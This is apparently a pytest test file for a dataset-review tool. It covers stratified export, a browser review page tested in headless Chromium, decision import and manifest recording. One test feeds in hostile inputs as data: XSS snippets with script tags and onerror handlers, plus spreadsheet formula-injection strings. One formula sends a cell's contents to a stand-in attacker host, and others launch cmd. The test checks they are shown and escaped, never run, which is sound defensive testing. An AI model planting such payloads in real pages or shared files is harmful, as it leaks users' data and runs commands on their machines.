"""The data team's review: export a stratified subset (HTML page checked in headless Chromium, CSV/JSONL to
mark), import the decisions (rejected rows excluded with reason `review`, who/when in the manifest)."""

import csv
import io
import json
import shutil
import subprocess
import sys

import pyarrow.parquet as pq
import pytest

from data_curation.review import export_review, import_review
from data_curation.run import curate
from flows.curate_cli import quick_config
from pilot_core.errors import UserError

from .helpers import CHROMIUM, REPO, browser, cells
from .helpers import GENERALIGN_CHATS as CHATS
from .helpers import GENERALIGN_EVAL as EVAL
from .helpers import GENERALIGN_PROMPTS as PROMPTS


@pytest.fixture(scope="module")
def dataset(tmp_path_factory):
    out = tmp_path_factory.mktemp("rev") / "v1"
    curate(quick_config((str(PROMPTS), str(CHATS)), (str(EVAL),), None, None), output=str(out), progress=False)
    return out


@pytest.fixture
def copy(dataset, tmp_path):
    dst = tmp_path / "v1"
    shutil.copytree(dataset, dst)
    return dst


def test_export_is_stratified(dataset, tmp_path):
    r = export_review(dataset, tmp_path / "review", per_stratum=2, rejects_per_reason=1)
    rows = list(csv.DictReader(open(tmp_path / "review" / "review.csv")))
    assert len(rows) == r["rows"] == len([json.loads(x) for x in open(tmp_path / "review" / "review.jsonl")])
    kept = pq.read_table(dataset / "prompts.parquet").to_pylist()
    strata = {(x["source"], x["category"]) for x in kept}
    got = [(x["source"], x["category"]) for x in rows if x["set"] == "kept"]
    assert set(got) == strata and all(got.count(s) <= 2 for s in strata)
    reasons = {(x["stage"], x["reason"]) for x in pq.read_table(dataset / "excluded.parquet").to_pylist()}
    assert sorted((x["stage"], x["reason"]) for x in rows if x["set"] == "excluded") == sorted(reasons)
    assert all(x["decision"] == "" for x in rows)
    again = export_review(dataset, tmp_path / "again", per_stratum=2, rejects_per_reason=1)
    assert (tmp_path / "again" / "review.csv").read_bytes() == (tmp_path / "review" / "review.csv").read_bytes()
    assert again["rows"] == r["rows"]


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make test installs it)")
def test_review_page_filters_and_sorts_in_headless_chromium(dataset, tmp_path):
    from playwright.sync_api import sync_playwright

    export_review(dataset, tmp_path / "review", per_stratum=3, rejects_per_reason=2)
    rows = list(csv.DictReader(open(tmp_path / "review" / "review.csv")))
    excluded = [x for x in rows if x["set"] == "excluded"]
    scores = sorted(float(x["score"]) for x in excluded if x["score"])
    with sync_playwright() as p:
        b = browser(p)
        try:
            page = b.new_page()
            requests = []
            page.on("request", lambda r: requests.append(r.url))
            page.goto((tmp_path / "review" / "review.html").as_uri())
            assert page.locator("#rows tbody.item").count() == len(rows)
            assert page.locator("#progress").inner_text() == f"decided 0 / {len(rows)} sampled"
            page.select_option("#filter-set", "excluded")
            assert sorted(cells(page, "id")) == sorted(x["id"] for x in excluded)
            header = page.locator('#head th[data-key="score"]')
            header.click()
            assert float(cells(page, "score")[0]) == scores[0]
            header.click()
            assert float(cells(page, "score")[0]) == scores[-1]
            page.select_option("#filter-set", "*")
            page.locator('#head th[data-key="id"]').click()
            ids = cells(page, "id")
            assert ids == sorted(ids, key=str.lower)
            reason = excluded[0]["reason"]  # a reason filter and a text search narrow the rows to exactly these
            page.select_option("#filter-reason", reason)
            assert sorted(cells(page, "id")) == sorted(x["id"] for x in rows if x["reason"] == reason)
            page.select_option("#filter-reason", "*")
            word = rows[0]["text"].split()[0]
            page.fill("#search", word)
            assert sorted(cells(page, "id")) == sorted(x["id"] for x in rows if any(
                word.lower() in str(v).lower() for k, v in x.items() if k not in ("decision", "note")))
            assert all(u.startswith("file://") for u in requests)  # self-contained: nothing fetched
        finally:
            b.close()


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make test installs it)")
def test_a_review_decided_in_the_page_imports(copy, tmp_path):
    """Click and keyboard decisions, a whole stratum at once, a note, a reload that keeps them; the saved file
    imports and moves exactly the rejected kept rows."""
    from playwright.sync_api import sync_playwright

    export_review(copy, tmp_path / "review", per_stratum=3, rejects_per_reason=1)
    rows = list(csv.DictReader(open(tmp_path / "review" / "review.csv")))
    with sync_playwright() as p:
        b = browser(p)
        try:
            page = b.new_page()
            page.goto((tmp_path / "review" / "review.html").as_uri())
            page.select_option("#filter-set", "kept")
            shown = cells(page, "id")
            first = page.locator("#rows tbody.item").first
            first.locator('button[data-decision="reject"]').click()
            first.locator("input.note").fill("off-topic")
            page.keyboard.press("Escape")
            page.keyboard.press("j")  # the cursor is on the first row: move to the second, approve it, reject the next
            page.keyboard.press("a")
            page.keyboard.press("r")
            page.select_option("#filter-set", "*")
            page.select_option("#filter-stratum", index=1)  # one whole stratum (of rejects), rejected at once
            whole = cells(page, "id")
            page.click("#all-reject")
            page.select_option("#filter-stratum", "*")
            page.reload()  # decisions are kept in the browser as they are made
            page.select_option("#filter-decision", "reject")
            rejected = set(cells(page, "id"))
            assert rejected == {shown[0], shown[2], *whole}
            assert page.locator("#progress").inner_text() == f"decided {len(rejected) + 1} / {len(rows)} sampled"
            with page.expect_download() as dl:
                page.click("#save")
            saved = tmp_path / "saved.csv"
            dl.value.save_as(saved)
        finally:
            b.close()
    got = {r["id"]: r for r in csv.DictReader(open(saved, newline=""))}
    assert list(got) == [x["id"] for x in rows] and got[shown[0]]["note"] == "off-topic"
    assert got[shown[1]]["decision"] == "approve"
    kept_before = {r["id"] for r in pq.read_table(copy / "prompts.parquet").to_pylist()}
    entry = import_review(copy, saved, "dana")
    kept = {r["id"] for r in pq.read_table(copy / "prompts.parquet").to_pylist()}
    assert kept_before - kept == rejected & kept_before and entry["approved"] == 1
    assert entry["rejected"] == len(rejected & kept_before)


def test_import_excludes_rejects_and_records_the_reviewer(copy, tmp_path):
    export_review(copy, tmp_path / "review", per_stratum=2, rejects_per_reason=1)
    rows = list(csv.DictReader(open(tmp_path / "review" / "review.csv")))
    kept_rows = [x for x in rows if x["set"] == "kept"]
    for x in kept_rows[:3]:
        x["decision"], x["note"] = "reject", "off-topic"
    for x in kept_rows[3:5]:
        x["decision"] = "approve"
    marked = tmp_path / "marked.csv"
    with open(marked, "w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=rows[0].keys())
        w.writeheader()
        w.writerows(rows)
    before = pq.read_table(copy / "prompts.parquet").num_rows
    entry = import_review(copy, marked, "dana")
    assert entry["rejected"] == 3 and entry["approved"] == 2
    kept = {r["id"] for r in pq.read_table(copy / "prompts.parquet").to_pylist()}
    excl = {r["id"]: r for r in pq.read_table(copy / "excluded.parquet").to_pylist()}
    assert len(kept) == before - 3
    for x in kept_rows[:3]:
        assert x["id"] not in kept and excl[x["id"]]["reason"] == "review"
        assert excl[x["id"]]["detail"] == "dana: off-topic"
    m = json.loads((copy / "manifest.json").read_text())
    assert m["data"]["reviews"][0]["reviewer"] == "dana" and m["data"]["kept"] == len(kept)
    assert m["data"]["excluded"]["review"] == {"review": 3}
    assert sum(v["kept"] for v in m["data"]["per_source"].values()) == len(kept)
    assert "dana reviewed" in (copy / "README.md").read_text()
    import_review(copy, marked, "dana")  # importing the same file again changes nothing more
    assert pq.read_table(copy / "prompts.parquet").num_rows == len(kept)


def test_bad_decisions_are_clear_errors(copy, tmp_path):
    from data_curation.review_file import export_tag
    from pilot_core.manifest import fingerprint

    tag = export_tag("prompts", fingerprint(copy / "prompts.parquet"))
    bad = tmp_path / "bad.csv"
    bad.write_text("id,decision\nprompts:ok-howto-0,maybe\n")
    with pytest.raises(UserError, match=r"bad.csv:2: decision 'maybe'"):
        import_review(copy, bad, "dana")
    bad.write_text(f"id,decision,export\nprompts:nope,reject,{tag}\n")
    with pytest.raises(UserError, match="bad.csv:2: id 'prompts:nope' is not in"):
        import_review(copy, bad, "dana")
    bad.write_text("ident,verdict\nx,y\n")
    with pytest.raises(UserError, match="header must have id and decision"):
        import_review(copy, bad, "dana")


def test_review_cli(copy, tmp_path):
    cli = [sys.executable, "-m", "flows.cli", "review"]
    r = subprocess.run([*cli, "export", str(copy), "--out", str(tmp_path / "r")], cwd=REPO, capture_output=True,
                       text=True)
    assert r.returncode == 0 and "rows to review" in r.stdout, r.stderr
    lines = [json.loads(x) for x in open(tmp_path / "r" / "review.jsonl")]
    lines[0]["decision"] = "reject"
    (tmp_path / "d.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines))
    r = subprocess.run([*cli, "import", str(copy), "--decisions", str(tmp_path / "d.jsonl"), "--reviewer", "kim"],
                       cwd=REPO, capture_output=True, text=True)
    assert r.returncode == 0 and "1 rejected" in r.stdout, r.stderr
    r = subprocess.run([*cli, "import", str(tmp_path / "nope"), "--decisions", str(tmp_path / "d.jsonl")],
                       cwd=REPO, capture_output=True, text=True)
    assert r.returncode == 2 and "not a complete artifact" in r.stderr


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make test installs it)")
def test_review_page_shows_markup_in_prompts_as_text(tmp_path):
    """A prompt is data: `<script>` and event handlers in it are shown, never run (issue #11); and cells that a
    spreadsheet would evaluate (=, +, -, @ first) reach the CSV files, exported or saved from the page, as text
    (a leading apostrophe) and read back unchanged (issue #38)."""
    from playwright.sync_api import sync_playwright

    from data_curation.review_file import read_decisions

    src = tmp_path / "hostile.jsonl"
    attacks = ["Please explain what this page snippet does: <script>window.pwned = 1</script> and why it is risky.",
               'Why would anyone write <img src=x onerror="window.pwned = 2"> inside a product review form?']
    formulas = ['=HYPERLINK("http://attacker.invalid/?q="&A1, "Why is this spreadsheet link dangerous to open?")',
                "+cmd|' /C calc'!A0 is something I saw in a shared file. What does it do on a work computer?",
                "-2+3 is how my calculator shows it, but can you explain negative numbers to a ten year old?",
                "@SUM(1+1)*cmd|' /C calc'!A0 appeared in a report I was sent. Should I be worried about it?"]
    src.write_text("".join(json.dumps({"id": f"h{i}", "prompt": a}) + "\n" for i, a in enumerate(attacks + formulas)))
    curate(quick_config((str(src),), (), None, None), output=str(tmp_path / "v1"), progress=False)
    export_review(tmp_path / "v1", tmp_path / "review", per_stratum=100)
    with sync_playwright() as p:
        b = browser(p)
        try:
            page = b.new_page()
            page.goto((tmp_path / "review" / "review.html").as_uri())
            page.wait_for_timeout(300)
            texts = page.locator("#rows tbody.item").all_inner_texts()
            assert page.evaluate("window.pwned") is None
            assert any("<script>window.pwned = 1</script>" in t for t in texts), texts
            assert any('<img src=x onerror="window.pwned = 2">' in t for t in texts), texts
            assert page.locator("#rows img").count() == 0 and page.locator("#rows script").count() == 0
            assert all(any(f in t for t in texts) for f in formulas), texts  # shown as written
            first = page.locator("#rows tbody.item").first
            first.locator('button[data-decision="approve"]').click()
            first.locator("input.note").fill("=1+1 looks fine")
            page.keyboard.press("Escape")
            with page.expect_download() as dl:
                page.click("#save")
            dl.value.save_as(tmp_path / "saved.csv")
        finally:
            b.close()
    for f in (tmp_path / "review" / "review.csv", tmp_path / "saved.csv"):
        cells = [c for row in csv.reader(open(f, newline="")) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], f  # nothing a spreadsheet evaluates
        assert sum(c.startswith(("'=", "'+", "'-", "'@")) for c in cells) >= len(formulas), f
    exported = {r["id"]: r for r in json.loads("[" + ",".join(open(tmp_path / "review" / "review.jsonl")) + "]")}
    saved = read_decisions(tmp_path / "saved.csv", ("approve", "reject"))
    assert [r["id"] for r in saved] == list(exported)  # ids read back as exported
    assert [r["note"] for r in saved if r["note"]] == ["=1+1 looks fine"]  # and the note as typed


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make test installs it)")
def test_a_large_review_is_paged(tmp_path):
    """5,000 sampled rows: one page of them in the document at a time; filters, the keyboard and the progress
    work over all of them (bench/review_page.py times it)."""
    from playwright.sync_api import sync_playwright

    from data_curation.review import _page
    from data_curation.review_page import PAGE_ROWS

    rows = [{"id": f"s:{i}", "set": "kept", "source": f"src-{i % 10}", "category": "advice", "stage": "",
             "reason": "", "score": "", "harm_tags": "violence" if i % 7 == 0 else "", "pii": "",
             "text": f"prompt number {i}", "decision": "", "note": "", "stratum": f"kept: src-{i % 10} / advice"}
            for i in range(5000)]
    (tmp_path / "big.html").write_text(_page("big", rows, "fp"), encoding="utf-8")
    with sync_playwright() as p:
        b = browser(p)
        try:
            page = b.new_page()
            page.goto((tmp_path / "big.html").as_uri())
            assert page.locator("#rows tbody.item").count() == PAGE_ROWS
            assert page.locator("#page-info").inner_text() == f"page 1 of {5000 // PAGE_ROWS} (5000 matching)"
            page.select_option("#filter-harm_tags", "violence")
            n = sum(1 for r in rows if r["harm_tags"])
            assert page.locator("#page-info").inner_text().endswith(f"({n} matching)")
            page.click("#all-reject")
            page.select_option("#filter-harm_tags", "*")
            for _ in range(PAGE_ROWS):  # the keyboard walks off the first page onto the second
                page.keyboard.press("j")
            page.keyboard.press("a")
            assert page.locator("#page-info").inner_text().startswith("page 2 of")
            assert page.locator("#progress").inner_text() == f"decided {n + 1} / 5000 sampled"
            assert cells(page, "id")[0] == f"s:{PAGE_ROWS}"
        finally:
            b.close()


def _write(rows: list[dict], path, sep=",", bom=False, crlf=False) -> None:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=rows[0].keys(), delimiter=sep, lineterminator="\r\n" if crlf else "\n")
    w.writeheader()
    w.writerows(rows)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buf.getvalue().encode())


def test_an_import_checks_the_kind_and_version_it_was_exported_from(copy, tmp_path):
    """A file of a pair review, one exported before the directory changed, one without the export column, a header
    without rows: each is one error naming the file (and line), and the directory is untouched."""
    from pilot_core.manifest import fingerprint

    export_review(copy, tmp_path / "r", per_stratum=2, rejects_per_reason=1)
    rows = list(csv.DictReader(open(tmp_path / "r" / "review.csv", newline="")))
    assert len({r["export"] for r in rows}) == 1 and rows[0]["export"].startswith("prompts@")
    kept = [r for r in rows if r["set"] == "kept"]
    before = fingerprint(copy)
    cases = {"pairs": ([{**kept[0], "decision": "reject", "export": "pairs@0123456789abcdef"}],
                       r"f.csv:2: exported from a pairs review, not a prompts review .* `pilot review import-pairs`"),
             "none": ([{k: v for k, v in kept[0].items() if k != "export"} | {"decision": "reject"}],
                      r"f.csv:2: no export column value"),
             "edited": ([{**kept[0], "decision": "reject", "text": kept[0]["text"] + " (edited)"}],
                        rf"f.csv:2: the text of id '{kept[0]['id']}' was edited in the file")}
    for name, (file_rows, error) in cases.items():
        _write(file_rows, tmp_path / "f.csv")
        with pytest.raises(UserError, match=error):
            import_review(copy, tmp_path / "f.csv", "dana")
    (tmp_path / "f.csv").write_text(",".join(rows[0]) + "\n")
    with pytest.raises(UserError, match="no rows"):
        import_review(copy, tmp_path / "f.csv", "dana")
    assert fingerprint(copy) == before  # nothing written
    _write([{**kept[0], "decision": "reject"}], tmp_path / "first.csv")
    _write([{**kept[1], "decision": "reject"}], tmp_path / "second.csv")  # the same export, decided apart
    import_review(copy, tmp_path / "first.csv", "dana")
    with pytest.raises(UserError, match=r"second.csv:2: exported from another version of .*; export again"):
        import_review(copy, tmp_path / "second.csv", "kim")


def test_spreadsheet_files_as_excel_saves_them(copy, tmp_path):
    """UTF-8 with a byte-order mark, `;` or tab between cells, Windows line ends: read as the plain CSV."""
    export_review(copy, tmp_path / "r", per_stratum=2, rejects_per_reason=1)
    rows = list(csv.DictReader(open(tmp_path / "r" / "review.csv", newline="")))
    kept = [r for r in rows if r["set"] == "kept"]
    marked = [{**r, "decision": "reject" if r is kept[0] else "approve" if r is kept[1] else ""} for r in rows]
    from data_curation.review_file import read_decisions

    plain = tmp_path / "plain.csv"
    _write(marked, plain)
    want = read_decisions(plain, ("approve", "reject"), texts=("text",))
    for sep, bom, crlf in ((";", True, True), ("\t", True, False), (",", True, True)):
        f = tmp_path / "excel.csv"
        _write(marked, f, sep, bom, crlf)
        assert read_decisions(f, ("approve", "reject"), texts=("text",)) == want, (sep, bom, crlf)
    entry = import_review(copy, f, "dana")
    assert (entry["rejected"], entry["approved"]) == (1, 1)


def test_an_approved_exclusion_comes_back_with_its_reviewer_and_note(copy, tmp_path):
    export_review(copy, tmp_path / "r", per_stratum=2, rejects_per_reason=1)
    rows = list(csv.DictReader(open(tmp_path / "r" / "review.csv", newline="")))
    excl = [r for r in rows if r["set"] == "excluded"]
    back, confirmed = excl[0], excl[1]
    kept_before = pq.read_table(copy / "prompts.parquet").num_rows
    _write([{**back, "decision": "approve", "note": "not a duplicate"}, {**confirmed, "decision": "reject"}],
           tmp_path / "d.csv")
    entry = import_review(copy, tmp_path / "d.csv", "dana")
    assert entry["approved"] == 0 and entry["exclusions_confirmed"] == 1
    assert entry["restored"] == [{"id": back["id"], "stage": back["stage"], "reason": back["reason"],
                                  "note": "not a duplicate"}]
    kept = {r["id"]: r for r in pq.read_table(copy / "prompts.parquet").to_pylist()}
    assert back["id"] in kept and len(kept) == kept_before + 1 and kept[back["id"]]["text"] == back["text"]
    assert back["id"] not in {r["id"] for r in pq.read_table(copy / "excluded.parquet").to_pylist()}
    m = json.loads((copy / "manifest.json").read_text())
    assert m["data"]["kept"] == len(kept) == sum(v["kept"] for v in m["data"]["per_source"].values())
    assert f"restored `{back['id']}`" in (copy / "README.md").read_text()
